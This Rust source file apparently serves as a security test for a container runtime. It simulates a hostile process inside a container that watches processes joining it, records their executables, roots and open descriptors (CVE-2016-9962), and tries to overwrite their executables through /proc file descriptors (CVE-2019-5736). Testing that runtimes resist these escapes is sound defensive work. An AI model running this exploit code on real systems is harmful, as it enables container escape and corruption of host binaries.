//! What a hostile program inside does to processes that join its container. Both attacks go on until a file
//! appears, and tell what they reached.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

/// Executables, descriptors and roots of other processes that are not of the container's own programs (CVE-2016-9962).
pub(crate) fn spy(stop: &str) -> Value {
    let mut seen = BTreeSet::new();
    while !Path::new(stop).exists() {
        for process in others() {
            let Some(exe) = foreign_executable(&process) else { continue };
            seen.insert(exe.to_string_lossy().into_owned());
            if place(&process.join("root")).is_some_and(|root| Some(root) != place(Path::new("/"))) {
                seen.insert("another root".into());
            }
            let open = fs::read_dir(process.join("fd")).into_iter().flatten().flatten();
            seen.extend(
                open.filter_map(|fd| fs::read_link(fd.path()).ok())
                    .map(|to| to.to_string_lossy().into_owned()),
            );
        }
    }
    json!(seen)
}

/// Keeps the executable of each foreign process open, and tries to write to it once it no longer runs
/// (CVE-2019-5736). Gives the number of successful writes.
pub(crate) fn overwrite(stop: &str) -> Value {
    let mut kept: Vec<File> = Vec::new();
    let mut written = 0;
    while !Path::new(stop).exists() {
        let found = others().into_iter().filter(|process| foreign_executable(process).is_some());
        kept.extend(found.filter_map(|process| File::open(process.join("exe")).ok()).take(4));
        for file in &kept {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let opened = OpenOptions::new().write(true).truncate(true).open(path);
            written += usize::from(
                opened.and_then(|mut file| std::io::Write::write_all(&mut file, b"owned")).is_ok(),
            );
        }
        kept.truncate(64);
    }
    json!(written)
}

/// Which directory it is.
fn place(directory: &Path) -> Option<(u64, u64)> {
    fs::metadata(directory).ok().map(|found| (found.dev(), found.ino()))
}

/// The folders of the other processes.
fn others() -> Vec<PathBuf> {
    let us = std::process::id().to_string();
    let listing = fs::read_dir("/proc").into_iter().flatten().flatten();
    listing
        .filter(|entry| entry.file_name().to_string_lossy().parse::<u32>().is_ok())
        .filter(|entry| entry.file_name().to_string_lossy() != us)
        .map(|entry| entry.path())
        .collect()
}

/// The executable of `process` when we may know it and it is none of the image's.
fn foreign_executable(process: &Path) -> Option<PathBuf> {
    let exe = fs::read_link(process.join("exe")).ok()?;
    (!exe.starts_with("/bin")).then_some(exe)
}
